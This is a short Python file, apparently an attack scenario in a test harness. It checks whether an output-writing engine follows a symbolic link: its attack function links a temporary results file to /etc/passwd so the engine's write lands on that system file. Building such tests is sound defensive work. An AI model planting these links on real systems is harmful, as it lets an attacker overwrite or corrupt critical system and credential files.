"""Put a link where the engine writes, so that it writes elsewhere."""

GOAL = "change"


def attack(world):
    import os

    os.symlink("/etc/passwd", f"{world['folder']}/results.json.tmp")
